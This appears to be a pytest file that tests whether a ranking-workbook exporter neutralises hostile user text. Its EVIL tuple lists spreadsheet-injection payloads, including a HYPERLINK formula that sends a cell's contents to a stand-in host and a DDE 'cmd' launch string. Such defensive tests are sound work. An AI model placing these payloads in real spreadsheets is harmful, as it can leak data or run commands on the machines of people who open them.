"""Whoever writes labels, names, groups, notes or file names puts no formula, sheet or link into a workbook."""

import re
import zipfile
from dataclasses import fields, is_dataclass, replace
from io import BytesIO
from itertools import cycle
from typing import Any

import openpyxl
import pytest

from exports.ranking_workbook import Member, ranking_workbook
from scoring_rules.engine import evaluate
from scoring_rules.words import Words
from tests.exports.example import facts, provenance, rule_set
from tests.recalculate import by_ironcalc, compare

EVIL = (
    '=HYPERLINK("http://x.example/?"&A1,"กด")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "O'Neil''s '\"ลำดับ\"'!$A$1",
    '"&HYPERLINK("http://x.example")&"',
    "\u202eตาด\u202c \u2067עברית\u2069",
    "{=1+1}",
    "\t=1+1",
    "ก" * 300,
    "]]></t></is><f>1+1</f>",
    "&amp;lt;f&gt; _x",
    "#REF! [Book9.xlsx]Sheet1!A1",
)


def poisoned(value: Any, texts: Any) -> Any:
    """The value with another hostile text for every label in it."""
    if isinstance(value, Words):
        text = next(texts)
        return Words(text, text)
    if isinstance(value, tuple):
        return tuple(poisoned(each, texts) for each in value)
    if is_dataclass(value) and not isinstance(value, type):
        changed = {
            each.name: poisoned(getattr(value, each.name), texts)
            for each in fields(value)
            if each.init and each.name != "sha256"
        }
        return replace(value, **changed)
    return value


def poisoned_workbook(*, groups: tuple[str, str], shift: int, codes: tuple[str, ...] = ("office",)) -> bytes:
    """The example's workbook, in which everything that people write is hostile."""
    texts = cycle(EVIL[shift:] + EVIL[:shift])
    rules = poisoned(rule_set(codes=codes), texts)
    given = facts()
    names = dict(zip(("9", "10"), groups, strict=True))
    entries = tuple(
        replace(each, label=next(texts), attributes={"zone": names[each.attributes["zone"]], "province": next(texts)})
        for each in given.entries
    )
    cards = {
        code: tuple(card if card.state == "standing" else replace(card, reason=next(texts)) for card in held)
        for code, held in given.cards.items()
    }
    given = replace(given, entries=entries, cards=cards)
    people = {
        code: Member(code, Words(next(texts)), Words(next(texts)), next(texts)) for code in ("m1", "m2", "m3", "m4")
    }
    return ranking_workbook(
        rules=rules,
        facts=given,
        evaluation=evaluate(rules, given, stage="zone"),
        stage="zone",
        members=people,
        notes={("trat", "m1", "d4"): next(texts), ("trat", "m2", "d1/plan"): next(texts)},
        provenance=replace(provenance(), made_by=next(texts), run=next(texts)),
    )


@pytest.mark.parametrize("shift", range(0, len(EVIL), 2))
def test_no_text_that_people_write_becomes_a_formula_a_link_or_a_broken_sheet(shift: int) -> None:
    groups = (EVIL[shift], EVIL[shift - 1])
    data = poisoned_workbook(groups=groups, shift=shift)
    book = openpyxl.load_workbook(BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    live = [str(cell.value) for cell in cells if cell.data_type == "f"]
    bare = [re.sub("'(?:[^']|'')*'!", "", text) for text in live]  # without names of sheets, which are quoted
    assert bare and not any(word in text for text in bare for word in ("HYPERLINK", "cmd", "http", "Book9", "1+1"))
    assert all(len(piece) <= 255 for text in bare for piece in text.split('"')[1::2]), (
        "longer texts in a formula break Excel"
    )
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(BytesIO(data)) as package:
        assert not [name for name in package.namelist() if "external" in name or "vba" in name]
        for name in package.namelist():
            assert b'TargetMode="External"' not in package.read(name)
    found = {cell.value for cell in cells if cell.data_type in ("s", "inlineStr")}
    assert any(EVIL[shift].lstrip("\t'") in str(text) for text in found)
    names = book.sheetnames
    assert len({name.casefold() for name in names}) == len(names)
    assert all(
        len(name) <= 31 and name.strip("'") == name and not set(name) & set("[]:*?/\\!\u202e\u2067") for name in names
    )


@pytest.mark.parametrize("shift", [0, 5, 6, 10])
def test_with_hostile_names_of_sheets_groups_and_tiers_the_formulas_still_find_the_result(shift: int) -> None:
    """Quotes and apostrophes in sheet names, and labels of three hundred letters, must not lead a formula away."""
    compared = compare(poisoned_workbook(groups=(EVIL[shift], EVIL[shift + 1]), shift=shift), by_ironcalc)
    assert compared.formulas and not compared.different
